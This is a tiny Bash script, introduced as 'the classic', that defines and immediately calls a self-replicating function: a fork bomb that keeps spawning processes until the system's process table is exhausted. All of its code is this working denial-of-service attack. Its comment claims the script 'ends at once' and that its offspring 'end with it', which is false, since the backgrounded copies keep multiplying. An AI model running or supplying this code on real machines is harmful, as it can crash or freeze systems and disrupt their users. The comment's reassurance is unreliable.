# The classic. The script itself ends at once; its offspring must end with it.
bomb() {
	bomb | bomb &
}
bomb
